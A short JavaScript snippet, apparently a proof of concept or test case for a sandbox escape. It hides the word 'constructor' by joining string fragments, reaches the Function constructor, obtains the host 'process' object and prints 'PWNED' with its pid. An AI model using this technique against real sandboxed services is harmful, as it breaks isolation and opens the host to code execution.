const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
setTimeout((o) => { console.log('PWNED', o.go(fn)('return process')().pid);
}, 0, t);
